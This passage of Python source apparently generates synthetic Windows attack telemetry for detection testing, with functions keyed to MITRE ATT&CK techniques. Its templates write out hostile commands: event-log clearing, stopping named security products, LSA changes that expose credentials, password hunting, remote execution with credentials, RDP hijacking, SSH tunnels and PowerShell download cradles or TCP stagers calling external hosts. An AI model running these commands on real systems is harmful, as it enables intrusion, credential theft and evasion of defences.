        flag = r.pick(("/e:false", "/e:false", "/enabled:false", f"/ms:{r.pick((1024, 4096, 65536, 1048576))}", "/q:true /e:false"))
        _tool(s, "wevtutil", f"{r.pick(('sl', 'set-log'))} {_q(r, log, 0.2)} {flag}")
    elif choice == 2:
        session = r.pick(("EventLog-Security", "EventLog-System", "EventLog-Application", "DefenderApiLogger",
                          "DefenderAuditLogger"))
        _set_value(s, f"HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\{session}", "Start", "0", "REG_DWORD")
    else:
        if r.chance(0.5):
            _sc(s, f"config eventlog start= {r.pick(('disabled', 'disabled', 'demand'))}")
        else:
            s.ps(r.pick(("Stop-Service -Name EventLog -Force", "Set-Service -Name EventLog -StartupType Disabled")),
                 encoded=0.1)


@add("T1070.001", "DefenseEvasion", entry=lone_entry, weight=2)
def lone2_log_clear(s: Session) -> None:
    """T1070.001: Windows event logs are cleared: `wevtutil cl CHANNEL` (one to three), `wmic nteventlog
    ... call cleareventlog`, Clear-EventLog or a PowerShell loop over every log."""
    r = s.r
    choice = r.rng.randrange(4)
    if choice <= 1:
        for log in r.sample(_LOGS, r.pick((1, 1, 2, 3))):
            if not _room(s, 2):
                break
            backup = f" /bu:{_drop(s, 'evtx')}" if r.chance(0.1) else ""
            _tool(s, "wevtutil", f"{r.pick(('cl', 'cl', 'clear-log'))} {_q(r, log, 0.2)}{backup}", via_shell=0.2)
    elif choice == 2:
        log = r.pick(("security", "Security", "system", "application", "Windows PowerShell"))
        how = r.pick((f"where filename='{log}'", f"where \"logfilename='{log}'\"", f"where LogfileName='{log}'"))
        _tool(s, "wmic", f"nteventlog {how} call cleareventlog", image=sys32(r, "wbem\\WMIC.exe"))
    else:
        s.ps(r.pick((f"Clear-EventLog -LogName {r.pick(('Security', 'System', 'Application', 'Security,System,Application'))}",
                     "Get-EventLog -List | ForEach-Object { Clear-EventLog -LogName $_.Log }",
                     "wevtutil el | Foreach-Object {wevtutil cl \"$_\"}",
                     "Get-WinEvent -ListLog * -Force | % { [System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog($_.LogName) }")),
             encoded=0.15)


@add("T1070", "DefenseEvasion", entry=lone_entry)
def lone2_usn_delete(s: Session) -> None:
    """T1070 (Atomic: delete the volume USN journal): `fsutil usn deletejournal /d|/n VOLUME` erases the
    NTFS change journal that forensics reads, sometimes after `fsutil usn queryjournal`."""
    r = s.r
    volume = r.pick(("C:", "C:", "c:", "D:", "C:\\"))
    if r.chance(0.25):
        _tool(s, "fsutil", f"usn queryjournal {volume}")
    _tool(s, "fsutil", f"usn {r.pick(('deletejournal', 'deleteJournal'))} {r.pick(('/d', '/D', '/n', '/d /n'))} {volume}")


@add("T1553.006", "DefenseEvasion", entry=lone_entry)
def lone2_boot_signing(s: Session) -> None:
    """T1553.006 / T1562.009: the boot configuration lets unsigned drivers load (testsigning,
    nointegritychecks, DDISABLE_INTEGRITY_CHECKS) or boots into safe mode where security products do not start."""
    r = s.r
    options = (f"/set testsigning {r.pick(('on', 'ON', 'yes'))}", f"/set nointegritychecks {r.pick(('on', 'ON', 'yes'))}",
               "/set loadoptions DDISABLE_INTEGRITY_CHECKS", f"/set {r.pick(('{current}', '{default}'))} testsigning on",
               f"/set {r.pick(('{current}', '{default}'))} safeboot {r.pick(('minimal', 'network'))}",
               "-set TESTSIGNING ON", "/set {current} nointegritychecks on")
    for option in r.sample(options, r.pick((1, 1, 2))):
        _tool(s, "bcdedit", option)


_SECURITY_SERVICES = ("WinDefend", "WdNisSvc", "Sense", "WdFilter", "wscsvc", "SecurityHealthService", "MsMpSvc",
                      "Sysmon", "Sysmon64", "SepMasterService", "McAfeeFramework", "mfemms", "CSFalconService",
                      "SentinelAgent", "CylanceSvc", "ekrn", "AVP", "MBAMService", "EventLog", "\"Windows Defender\"",
                      "\"Symantec Endpoint Protection\"", "xagt", "TmCCSF")


@add("T1562.001", "DefenseEvasion", entry=lone_entry, weight=2)
def lone2_security_service_stop(s: Session) -> None:
    """T1562.001: security services are stopped or disabled (`sc stop`, `sc config SVC start= disabled`,
    `net stop`, Stop-Service/Set-Service), one to three of them."""
    r = s.r
    for svc in r.sample(_SECURITY_SERVICES, r.pick((1, 1, 2, 3))):
        if not _room(s):
            break
        choice = r.rng.randrange(5)
        if choice == 0:
            _sc(s, f"stop {svc}")
        elif choice == 1:
            _sc(s, f"config {svc} start= {r.pick(('disabled', 'disabled', 'demand'))}")
        elif choice == 2:
            _net(s, f"net stop {svc}{r.pick(('', '', ' /y'))}")
        elif choice == 3:
            _sc(s, f"delete {svc}")
        else:
            s.ps(r.pick((f"Stop-Service -Name {svc} -Force", f"Set-Service -Name {svc} -StartupType Disabled")), encoded=0.1)


# --- CredentialAccess (TA0006) -------------------------------------------------------------------

_LSA = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa"
_CRED_VALUES = (("HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest", "UseLogonCredential", "1"),
                (_LSA, "DsrmAdminLogonBehavior", "2"), (_LSA, "RunAsPPL", "0"), (_LSA, "DisableRestrictedAdmin", "0"),
                (_LSA, "LmCompatibilityLevel", "2"), (_LSA, "NoLmHash", "0"),
                (_LSA + "\\MSV1_0", "RestrictSendingNTLMTraffic", "0"), (_LSA, "DisableDomainCreds", "0"),
                (_LSA, "LsaCfgFlags", "0"), (_LSA, "TokenLeakDetectDelaySecs", "30"),
                ("HKLM\\SYSTEM\\CurrentControlSet\\Control\\DeviceGuard", "EnableVirtualizationBasedSecurity", "0"))


@add("T1112", "CredentialAccess", entry=lone_entry, weight=2)
def lone2_lsa_weaken(s: Session) -> None:
    """T1112 for T1003.001 / T1550.002: LSA settings that expose credentials are changed: WDigest
    UseLogonCredential 1 (cleartext passwords in LSASS), DsrmAdminLogonBehavior 2 (DSRM account logs on
    over the network), RunAsPPL 0 (LSASS unprotected), DisableRestrictedAdmin 0 (pass-the-hash over RDP),
    NTLM downgrades."""
    r = s.r
    for key, value, data in r.sample(_CRED_VALUES, r.pick((1, 1, 1, 2))):
        _set_value(s, key, value, data, "REG_DWORD", ps=0.2)


@add("T1040", "CredentialAccess", entry=lone_entry)
def lone2_packet_capture(s: Session) -> None:
    """T1040: network traffic is captured with built-in tools: `pktmon start --etw` (with port filters
    and an output file) or `netsh trace start capture=yes` writing an .etl to a user-writable folder."""
    r = s.r
    out = _drop(s, "etl")
    if r.chance(0.5):
        if r.chance(0.3):
            _tool(s, "pktmon", f"filter add {r.pick(('-p', '--port'))} {r.pick((445, 80, 21, 23, 389, 88, 110, 143, 25))}",
                  image=sys32(r, "PktMon.exe"))
        opts = " ".join(r.sample(("-p 0", f"-f {out}", f"-c {r.num(1, 20)}", "-m real-time", f"-s {r.num(64, 2048)}"),
                                 r.num(0, 2)))
        _tool(s, "pktmon", f"start {r.pick(('--etw', '--capture', '-c'))} {opts}".strip(), image=sys32(r, "PktMon.exe"))
    else:
        parts = ["capture=yes", f"tracefile={_q(r, out, 0.2)}"]
        for extra in (f"maxsize={r.pick((250, 512, 1024, 4096))}", "persistent=yes", "overwrite=yes", "report=disabled",
                      f"IPv4.Address={r.int_ip()}", "filemode=circular", "scenario=NetConnection"):
            if r.chance(0.2):
                parts.append(extra)
        if r.chance(0.3):
            r.rng.shuffle(parts)
        _tool(s, "netsh", f"trace start {' '.join(parts)}")


@add("T1555.004", "CredentialAccess", entry=lone_entry)
def lone2_credential_manager(s: Session) -> None:
    """T1555.004: saved Windows credentials are listed: `cmdkey /list` and `vaultcmd /listcreds:` for the
    Windows and Web credential vaults (or /list, /listschema), one to three commands."""
    r = s.r
    vault = r.pick(('"Windows Credentials"', '"Web Credentials"', "{4BF4C442-9B8A-41A0-B380-DD4A704DDB28}",
                    "{77BC582B-F0A6-4E15-4E80-61736B6F3B29}"))
    commands = [("cmdkey", "/list"), ("vaultcmd", f"/listcreds:{vault} /all"), ("vaultcmd", f"/listcreds:{vault}"),
                ("vaultcmd", "/list"), ("vaultcmd", f"/listproperties:{vault}"), ("vaultcmd", "/listschema")]
    chosen = r.sample(commands[1:], r.pick((1, 1, 2)))
    if r.chance(0.6):
        chosen.insert(0, commands[0])
    for exe, args in chosen[:3]:
        if _room(s, 2):
            _tool(s, exe, args, via_shell=0.2, integrity=r.pick(("Medium", "High")))
    if r.chance(0.1) and _room(s, 1):
        s.ps("[void][Windows.Security.Credentials.PasswordVault,Windows.Security.Credentials,ContentType=WindowsRuntime];"
             "(New-Object Windows.Security.Credentials.PasswordVault).RetrieveAll() | % { $_.RetrievePassword(); $_ }",
             encoded=0.2)


@add("T1552.001", "CredentialAccess", entry=lone_entry)
def lone2_password_files(s: Session) -> None:
    """T1552.001: files are searched for passwords: `findstr /si password *.xml *.ini *.txt *.config`,
    `findstr /spin`, `dir /s *pass*`, Select-String over unattend and web.config files."""
    r = s.r
    word = r.pick(("password", "password", "passwd", "pwd", "pass", "cpassword", "credential", "secret"))
    where = r.pick(("", "", "C:\\Users\\", f"C:\\Users\\{s.user}\\", "C:\\inetpub\\", "\\\\" + r.host() + "\\SYSVOL\\",
                    "C:\\Windows\\Panther\\", "C:\\"))
    choice = r.rng.randrange(4)
    if choice <= 1:
        globs = " ".join(f"{where}*.{ext}" for ext in r.sample(("xml", "ini", "txt", "config", "ps1", "bat", "vbs", "cfg",
                                                               "kdbx", "udl"), r.num(1, 4)))
        flags = r.pick(("/si", "/SI", "/spin", "/s /i", "/si /m", "/S /I /M"))
        _tool(s, "findstr", f"{flags} {word} {globs}", via_shell=0.4)
    elif choice == 2:
        s.cmd(f"dir /s /b {where}*{word}* {r.pick(('', '== *cred* == *vnc* == *.config*', '*.kdbx'))}".strip())
    else:
        root = where or "C:\\"
        s.ps(f"Get-ChildItem -Path {root} -Include *.xml,*.ini,*.txt,*.config -Recurse -ErrorAction "
             f"SilentlyContinue | Select-String -Pattern '{word}'", encoded=0.1)


@add("T1552.002", "CredentialAccess", entry=lone_entry)
def lone2_password_registry(s: Session) -> None:
    """T1552.002: the registry is searched for stored passwords (`reg query HKLM /f password /t REG_SZ
    /s`), or known places are read: Winlogon DefaultPassword, VNC and PuTTY sessions, SNMP communities."""
    r = s.r
    commands = (f"query {r.pick(('HKLM', 'HKCU', 'HKEY_LOCAL_MACHINE', 'HKEY_CURRENT_USER'))} /f "
                f"{r.pick(('password', 'password', 'passwd', 'pwd'))} /t REG_SZ /s",
                f"query {r.pick(('HKLM', 'HKCU'))} /f password /t REG_SZ /s /k" if r.chance(0.3) else
                "query HKCU /f password /t REG_SZ /s",
                f"query {_key(r, _WINLOGON)} /v {r.pick(('DefaultPassword', 'DefaultUserName', 'AutoAdminLogon'))}",
                "query HKCU\\Software\\ORL\\WinVNC3\\Password", "query HKLM\\SOFTWARE\\RealVNC\\WinVNC4 /v password",
                "query HKCU\\Software\\SimonTatham\\PuTTY\\Sessions /s",
                "query HKLM\\SYSTEM\\CurrentControlSet\\Services\\SNMP /s",
                "query HKCU\\Software\\TightVNC\\Server", "query HKLM\\SOFTWARE\\TightVNC\\Server /v Password")
    for args in r.sample(commands, r.pick((1, 1, 2, 3))):
        if not _room(s, 2):
            break
        _tool(s, "reg", args, via_shell=0.3, integrity=r.pick(("Medium", "High")))


# --- Discovery (TA0007) --------------------------------------------------------------------------

def _burst(s: Session, pool: tuple[tuple[str, str], ...]) -> None:
    """One to three discovery commands from `pool` ((exe, args); exe `net` goes through `_net`)."""
    r = s.r
    dom = _dom(r)
    for exe, args in r.sample(pool, r.pick((1, 1, 2, 3))):
        if not _room(s):
            break
        line = args.format(dom=dom, host=r.host(), short=dom.split(".")[0].upper())
        if exe == "net":
            _net(s, f"net {line}")
        elif exe == "ps":
            s.ps(line, encoded=0.1)
        else:
            image = sys32(r, "wbem\\WMIC.exe") if exe == "wmic" else None
            _tool(s, exe, line, image=image, via_shell=0.3, integrity=r.pick(("Medium", "High")))
        s.b.tick(0.5, 30.0)


_SECURITY_DISCOVERY = (
    ("netsh", "advfirewall show allprofiles"), ("netsh", "advfirewall show currentprofile"),
    ("netsh", "advfirewall show allprofiles state"), ("netsh", "advfirewall show domainprofile"),
    ("netsh", "firewall show state"), ("netsh", "firewall show config"), ("netsh", "firewall show opmode"),
    ("netsh", "advfirewall firewall show rule name=all dir=in"), ("netsh", "advfirewall firewall show rule name=all"),
    ("wmic", "/namespace:\\\\root\\securitycenter2 path antivirusproduct get displayname"),
    ("wmic", "/Namespace:\\\\root\\SecurityCenter2 Path AntiVirusProduct Get displayName,productState /Format:List"),
    ("wmic", "/namespace:\\\\root\\securitycenter2 path firewallproduct get displayname"),
    ("ps", "Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntivirusProduct"),
    ("ps", "Get-WmiObject -Namespace root\\SecurityCenter2 -Class AntiVirusProduct | Select displayName"),
    ("sc", "query windefend"), ("sc", "query sysmon64"), ("fltmc", "instances"), ("fltmc", "filters"),
    ("ps", "Get-MpPreference | Select-Object -ExpandProperty ExclusionPath"),
    ("reg", "query \"HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\""),
    ("auditpol", "/get /category:*"), ("auditpol", "/get /category:\"Detailed Tracking\""),
)


@add("T1518.001", "Discovery", entry=lone_entry, weight=2)
def lone2_security_discovery(s: Session) -> None:
    """T1518.001 / T1016: what protects the host is listed: firewall profiles and rules (netsh), the
    antivirus registered with Security Center (wmic/CIM root\\SecurityCenter2), Defender exclusions,
    minifilter drivers, the audit policy; bursts of one to three."""
    _burst(s, _SECURITY_DISCOVERY)


_DOMAIN_DISCOVERY = (
    ("setspn", "-T {dom} -Q */*"), ("setspn", "-Q */*"), ("setspn", "-T {short} -F -Q */*"),
    ("setspn", "-q MSSQLSvc/*"), ("nltest", "/domain_trusts"), ("nltest", "/domain_trusts /all_trusts"),
    ("nltest", "/trusted_domains"), ("nltest", "/dclist:{short}"), ("nltest", "/dsgetdc:{dom}"),
    ("net", "group /domain"), ("net", "group \"Domain Computers\" /domain"), ("net", "group \"Exchange Trusted Subsystem\" /domain"),
    ("net", "localgroup \"Remote Desktop Users\""), ("net", "user /domain"), ("dsquery", "* -filter \"(objectClass=trustedDomain)\" -attr *"),
    ("ps", "([System.DirectoryServices.ActiveDirectory.Domain]::GetCurrentDomain()).GetAllTrustRelationships()"),
    ("ps", "Get-ADUser -Filter {{ServicePrincipalName -ne \"$null\"}} -Properties ServicePrincipalName"),
    ("ps", "Get-ADTrust -Filter *"),
)


@add("T1482", "Discovery", entry=lone_entry, weight=2)
def lone2_domain_discovery(s: Session) -> None:
    """T1482 / T1069.002 / T1087.002: the domain is mapped: SPN accounts (`setspn -T dom -Q */*`), trusts
    (`nltest /domain_trusts`), domain controllers and groups; bursts of one to three."""
    _burst(s, _DOMAIN_DISCOVERY)


_SHARE_POLICY_DISCOVERY = (
    ("net", "accounts"), ("net", "accounts /domain"), ("net", "view /all"), ("net", "view /all /domain"),
    ("net", "view /domain"), ("net", "view /domain:{short}"), ("net", "view \\\\{host} /all"), ("net", "share"),
    ("net", "use"), ("wmic", "share get name,path"), ("wmic", "share list brief"), ("ps", "Get-SmbShare"),
    ("ps", "Get-ADDefaultDomainPasswordPolicy"), ("ps", "Get-WmiObject -Class Win32_Share"),
    ("net", "session"), ("net", "config workstation"),
)


@add("T1135", "Discovery", entry=lone_entry, weight=2)
def lone2_share_policy_discovery(s: Session) -> None:
    """T1135 / T1201: network shares and the password policy are read: `net view /all [/domain]`,
    `net share`, `wmic share`, `net accounts [/domain]`; bursts of one to three."""
    _burst(s, _SHARE_POLICY_DISCOVERY)


# --- LateralMovement (TA0008) --------------------------------------------------------------------

def _target(r: Rand) -> str:
    return r.pick((r.int_ip(), r.int_ip(), r.host(), f"{r.host().lower()}.{_dom(r)}"))


def _creds(r: Rand) -> tuple[str, str]:
    dom = r.pick((r.token(3, 8).upper(), r.token(3, 8), ".", _dom(r)))
    user = r.pick(("administrator", "Administrator", "admin", _account(r), r.user(), "svc_backup"))
    return f"{dom}\\{user}" if r.chance(0.85) else user, _password(r)


@add("T1021.002", "LateralMovement", entry=lone_entry, weight=2)
def lone2_admin_share(s: Session) -> None:
    """T1021.002: an admin share on another host is mounted with explicit credentials (`net use
    \\\\IP\\C$ /user:DOM\\admin PASS`, ADMIN$, IPC$ or a null session), sometimes followed by a copy of a
    payload to it or a listing."""
    r = s.r
    target = _target(r)
    share = r.pick(("C$", "C$", "ADMIN$", "ADMIN$", "IPC$", "c$", "admin$", "D$"))
    user, pw = _creds(r)
    unc = f"\\\\{target}\\{share}"
    style = r.rng.randrange(5)
    if style == 0:
        args = f"use {unc} /user:{user} {pw}"
    elif style == 1:
        args = f"use {unc} {pw} /user:{user}"
    elif style == 2:
        args = f"use {r.pick(('Z:', 'Y:', 'X:', '*'))} {unc} /user:{user} {_q(r, pw, 0.3)}{r.pick(('', ' /persistent:no'))}"
    elif style == 3:
        args = f'use \\\\{target}\\IPC$ "" /user:""'
    else:
        args = f"use {unc} /u:{user} {pw}"
    _net(s, f"net {args}")
    if r.chance(0.35) and share.upper() != "IPC$":
        payload = _drop(s)
        sub = r.pick(("", "Windows\\Temp\\", "ProgramData\\"))
        s.cmd(r.pick((f"copy {payload} {unc}\\{sub}{r.name('exe')}",
                      f"dir {unc}", f"dir {unc}\\Users")))


@add("T1563.002", "LateralMovement", entry=lone_entry)
def lone2_rdp_hijack(s: Session) -> None:
    """T1563.002: another user's RDP session is taken over with `tscon ID /dest:rdp-tcp#N` (or
    /dest:console), run as SYSTEM (so no password is asked) directly or through a one-off service,
    sometimes after `query user` lists the sessions."""
    r = s.r
    dest = r.pick((f"rdp-tcp#{r.num(0, 20)}", f"rdp-tcp#{r.num(0, 5)}", "console", f"RDP-Tcp#{r.num(0, 9)}"))
    session = r.num(1, 9)
    if r.chance(0.3):
        exe, args = r.pick((("query", "user"), ("query", "session"), ("quser", ""), ("qwinsta", ""), ("quser", "/server:localhost")))
        _tool(s, exe, args, via_shell=0.2)
    tscon = f"tscon {session} /dest:{dest}{r.pick(('', '', f' /password:{_password(r)}'))}"
    if r.chance(0.35):
        name = r.pick((r.token(4, 8), "sesshijack", f"{r.word()}{r.num(1, 99)}"))
        _sc(s, f'create {name} binpath= "cmd.exe /k {tscon}"{r.pick(("", " start= demand", " type= own"))}')
        if r.chance(0.6) and _room(s):
            _net(s, f"net start {name}") if r.chance(0.5) else _sc(s, f"start {name}")
    else:
        s.run(sys32(r, "tscon.exe"), r.pick((tscon, tscon.replace("tscon", "tscon.exe", 1), tscon.replace("tscon", sys32(r, "tscon.exe"), 1))),
              via_shell=0.3, user=SYSTEM if r.chance(0.7) else None, integrity="System")


@add("T1021.006", "LateralMovement", entry=lone_entry)
def lone2_winrm_exec(s: Session) -> None:
    """T1021.006: a command runs on another host over WinRM: `winrs -r:HOST [-u: -p:] COMMAND` or
    PowerShell Invoke-Command / Enter-PSSession with -ComputerName."""
    r = s.r
    target = _target(r)
    folder = r.pick(("C:\\Windows\\Temp\\", "C:\\ProgramData\\"))
    command = r.pick(("cmd", "whoami", "ipconfig /all", "hostname", f"cmd /c {folder}{r.name('exe')}",
                      f"powershell -enc {r.b64(40, 160)}", "net localgroup administrators", "tasklist", "systeminfo"))
    if r.chance(0.6):
        creds = ""
        if r.chance(0.4):
            user, pw = _creds(r)
            creds = f" -u:{user} -p:{pw}"
        remote = r.pick((f"-r:{target}", f"-remote:{target}", f"-r:http://{target}:5985", f"-r:https://{target}:5986"))
        _tool(s, "winrs", f"{remote}{creds} {command}")
    else:
        script = r.pick((f"Invoke-Command -ComputerName {target} -ScriptBlock {{ {command} }}",
                         f"Invoke-Command -ComputerName {target} -FilePath {_drop(s, 'ps1')}",
                         f"Enter-PSSession -ComputerName {target}",
                         f"Invoke-Command -ComputerName {target} -Credential $c -ScriptBlock {{ Start-Process {_drop(s)} }}"))
        s.ps(script, encoded=0.15)


@add("T1047", "LateralMovement", entry=lone_entry)
def lone2_remote_wmic(s: Session) -> None:
    """T1047 (remote): `wmic /node:HOST [/user: /password:] process call create "COMMAND"` starts a process
    on another host."""
    r = s.r
    target = _target(r)
    creds = ""
    if r.chance(0.4):
        user, pw = _creds(r)
        creds = f" /user:{_q(r, user, 0.3)} /password:{_q(r, pw, 0.5)}"
    remote_cmd = r.pick((f"C:\\Windows\\Temp\\{r.name('exe')}", f"cmd.exe /c {r.pick(('whoami', 'ipconfig', 'net user'))} > C:\\Windows\\Temp\\{r.token(3, 8)}.txt",
                         f"powershell.exe -nop -w hidden -enc {r.b64(40, 160)}", f"C:\\ProgramData\\{r.name('exe')}",
                         f"rundll32.exe C:\\Windows\\Temp\\{r.name('dll')},Start"))
    node = r.pick((f"/node:{target}", f'/node:"{target}"', f"/NODE:{target}"))
    _tool(s, "wmic", f"{node}{creds} process call create \"{remote_cmd}\"", image=sys32(r, "wbem\\WMIC.exe"))


@add("T1569.002", "LateralMovement", entry=lone_entry)
def lone2_remote_service(s: Session) -> None:
    """T1021.002 / T1569.002: a service is created and started on another host (`sc \\\\HOST create NAME
    binpath= ...`, `sc \\\\HOST start NAME`), as PsExec-like tools do."""
    r = s.r
    host = f"\\\\{_target(r)}"
    name = r.pick((r.token(4, 10), f"{r.word()}{r.num(1, 999)}", f"Win{r.word().capitalize()}", r.hexstr(8)))
    binpath = r.pick((f"C:\\Windows\\{r.name('exe')}", f"%COMSPEC% /Q /c {r.pick(('whoami', 'echo'))} > \\\\127.0.0.1\\C$\\{r.token(3, 6)}.txt",
                      f"cmd.exe /c C:\\Windows\\Temp\\{r.name('bat')}", f"C:\\ProgramData\\{r.name('exe')}",
                      f"powershell -nop -w hidden -enc {r.b64(40, 120)}"))
    steps = [f"{host} create {name} binpath= {_q(r, binpath, 0.7)}{r.pick(('', ' start= demand', ' start= auto'))}",
             f"{host} start {name}", f"{host} delete {name}"]
    for args in steps[: r.pick((1, 2, 2, 3))]:
        if not _room(s, 2):
            break
        _sc(s, args)
        s.b.tick(0.5, 10.0)


@add("T1053.005", "LateralMovement", entry=lone_entry)
def lone2_remote_task(s: Session) -> None:
    """T1053.005 (remote): a task is created (and run) on another host with `schtasks /create /s HOST
    [/u /p] ... /ru SYSTEM`, then `schtasks /run /s HOST /tn NAME`."""
    r = s.r
    target = _target(r)
    name = _task_name(r)
    creds = ""
    if r.chance(0.5):
        user, pw = _creds(r)
        creds = f" /u {user} /p {pw}"
    run = r.pick((f"C:\\Windows\\Temp\\{r.name('exe')}", f"cmd.exe /c C:\\ProgramData\\{r.name('bat')}",
                  f"powershell -enc {r.b64(40, 120)}", f"\\\\{r.int_ip()}\\share\\{r.name('exe')}"))
    sched = r.pick(("/sc once /st 00:00", f"/sc once /st {r.num(0, 23):02d}:{r.num(0, 59):02d}", "/sc onstart"))
    _tool(s, "schtasks", f"/create /s {target}{creds} /tn {_q(r, name)} /tr {_q(r, run, 0.6)} {sched}"
          f"{r.pick((' /ru SYSTEM', ' /ru system', ''))}{r.pick((' /f', ''))}")
    if r.chance(0.6):
        _tool(s, "schtasks", f"/run /s {target}{creds} /tn {_q(r, name)}")


# --- CommandAndControl (TA0011) ------------------------------------------------------------------

@add("T1090", "CommandAndControl", entry=lone_entry, weight=2)
def lone2_portproxy(s: Session) -> None:
    """T1090.001: the host becomes a relay: `netsh interface portproxy add v4tov4 listenport=P
    connectaddress=IP connectport=Q` (or the PortProxy registry value) forwards a local port to another
    host, often RDP or SMB, sometimes checked with `show all`."""
    r = s.r
    listen = r.pick((r.num(1024, 65000), 4444, 8080, 8443, 5000, 33389, 50050, 443, 80))
    to_port = r.pick((3389, 3389, 445, 22, 5985, 443, 80, 8080, 1433, r.num(1024, 65000)))
    to_addr = r.pick((r.int_ip(), r.int_ip(), r.ext_ip()))
    if r.chance(0.8):
        parts = [f"listenport={listen}", f"connectaddress={to_addr}", f"connectport={to_port}"]
        if r.chance(0.6):
            parts.append(f"listenaddress={r.pick(('0.0.0.0', '0.0.0.0', r.int_ip(), '*'))}")  # noqa: S104
        if r.chance(0.3):
            parts.append("protocol=tcp")
        if r.chance(0.5):
            r.rng.shuffle(parts)
        family = r.pick(("v4tov4", "v4tov4", "v4tov6", "V4TOV4"))
        _tool(s, "netsh", f"{r.pick(('interface', 'int', 'interface'))} portproxy add {family} {' '.join(parts)}")
    else:
        _set_value(s, "HKLM\\SYSTEM\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp", f"0.0.0.0/{listen}",
                   f"{to_addr}/{to_port}", ps=0.2)
    if r.chance(0.2):
        _tool(s, "netsh", "interface portproxy show all")


@add("T1572", "CommandAndControl", entry=lone_entry, weight=2)
def lone2_ssh_tunnel(s: Session) -> None:
    """T1572 / T1090: an SSH tunnel to the attacker's server: plink or the built-in OpenSSH client with
    remote (-R, exposing local RDP/SMB), local (-L) or dynamic (-D, SOCKS) forwarding."""
    r = s.r
    server = r.pick((r.ext_ip(), r.ext_ip(), r.domain()))
    user = r.pick(("root", "ubuntu", r.token(3, 8), "kali", "tunnel"))
    local = r.pick(("127.0.0.1", "localhost", r.int_ip()))
    kind = r.rng.randrange(3)
    if kind == 0:
        fwd = f"-R {r.pick(('', '0.0.0.0:', '127.0.0.1:'))}{r.num(1024, 65000)}:{local}:{r.pick((3389, 445, 22, 5985, 80))}"
    elif kind == 1:
        fwd = f"-L {r.num(1024, 65000)}:{r.pick((r.int_ip(), r.ext_ip()))}:{r.pick((3389, 445, 22, 1433, 80, 443))}"
    else:
        fwd = f"-D {r.pick((1080, 9050, 8888, r.num(1024, 65000)))}"
    port = r.pick(("", "", f" -P {r.pick((22, 443, 80, 2222, 8022))}"))
    if r.chance(0.5):
        image = f"{s.wdir()}\\{r.pick(('plink.exe', 'plink.exe', r.name('exe'), 'putty_link.exe'))}"
        extra = " ".join(r.sample(("-N", "-batch", "-ssh", "-v", "-C", "-T"), r.num(1, 3)))
        auth = r.pick((f" -pw {_password(r)}", f" -pw {_password(r)}", f" -i {s.wdir()}\\{r.name('ppk')}"))
        line = f"{_q(r, image, 0.2) if r.chance(0.6) else image.rsplit(chr(92), 1)[-1]} {extra} {fwd} {user}@{server}{port}{auth}"
        if r.chance(0.3):
            line = f"cmd.exe /c echo y | {line}"
        s.run(image, line, via_shell=0.2, integrity=_integrity(r))
    else:
        image = r.case("C:\\Windows\\System32\\OpenSSH\\ssh.exe")
        opts = " ".join(r.sample(("-N", "-f", "-q", "-T", "-C", "-o StrictHostKeyChecking=no", "-o ServerAliveInterval=60",
                                  "-o UserKnownHostsFile=/dev/null"), r.num(1, 3)))
        port = port.replace("-P", "-p")
        s.run(image, f"{r.pick(('ssh', 'ssh.exe', image))} {opts} {fwd} {user}@{server}{port}", via_shell=0.2,
              integrity=_integrity(r))


# --- Execution (TA0002) --------------------------------------------------------------------------

_STAGE_SCRIPTS = (
    "IEX (New-Object Net.WebClient).DownloadString('{url}')",
    "$c=New-Object System.Net.Sockets.TCPClient('{ip}',{port});$s=$c.GetStream()",
    "[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('{url}'))",
    "$d=[Convert]::FromBase64String('{b64}');[System.Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)",
    "Start-Process '{drop}' -WindowStyle Hidden",
    "sal a New-Object;iex(a IO.StreamReader((a IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{b64}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()",
)


def _url(s: Session, ext: str) -> str:
    r = s.r
    return f"http{r.pick(('', 's'))}://{r.pick((r.ext_ip(), r.domain(), r.domain()))}{r.pick(('', ':8080', ':443', ':8000'))}/{r.name(ext)}"


def _stage(s: Session) -> str:
    r = s.r
    return r.pick(_STAGE_SCRIPTS).format(url=_url(s, r.pick(("ps1", "txt", ""))), ip=r.ext_ip(),
                                         port=r.pick((443, 4444, 8080)), b64=r.b64(40, 120), drop=_drop(s))


@add("T1059.001", "Execution", entry=lone_entry, weight=2)
def lone2_hidden_powershell(s: Session) -> None:
    """T1059.001: a hidden, non-interactive PowerShell with an encoded command is started on its own
    (`powershell -nop -w hidden -enc B64`, flags abbreviated and reordered, sometimes 32-bit or pwsh)."""
    r = s.r
    kinds = (("-nop", "-NoP", "-NoProfile"), ("-noni", "-NonI", "-NonInteractive"),
             ("-w hidden", "-W Hidden", "-WindowStyle Hidden", "-win hid", "-w 1"),
             ("-ep bypass", "-exec bypass", "-ExecutionPolicy Bypass", "-ep unrestricted"), ("-sta",))
    flags = [r.pick(kind) for kind in r.sample(kinds, r.num(1, 4))]
    enc = r.pick(("-enc", "-e", "-ec", "-EncodedCommand", "-EncodedC", "-en"))
    body = r.ps_enc(_stage(s)) if r.chance(0.6) else r.b64(60, 400)
    image = powershell(r) if r.chance(0.9) else "C:\\Program Files\\PowerShell\\7\\pwsh.exe"
    typed = r.pick(("powershell", "powershell.exe", "PowerShell.exe", "POWERSHELL", image))
    if image.endswith("pwsh.exe"):
        typed = r.pick(("pwsh", "pwsh.exe"))
    proc = s.run(image, f"{typed} {' '.join(flags)} {enc} {body}", via_shell=0.3, integrity=_integrity(r))
    if r.chance(0.4):
        s.b.connect(proc, r.ext_ip(), r.pick((443, 80, 8080)))


@add("T1059.001", "Execution", entry=lone_entry, weight=2)
def lone2_download_cradle(s: Session) -> None:
    """T1059.001 / T1105: a PowerShell download cradle typed alone: IEX of New-Object Net.WebClient's
    DownloadString, Invoke-WebRequest piped to Invoke-Expression, DownloadFile then Start-Process."""
    r = s.r
    url = _url(s, r.pick(("ps1", "ps1", "txt", "")))
    drop = _drop(s)
    script = r.pick((f"IEX (New-Object Net.WebClient).DownloadString('{url}')",
                     f"IEX(New-Object System.Net.WebClient).DownloadString(\\\"{url}\\\")",
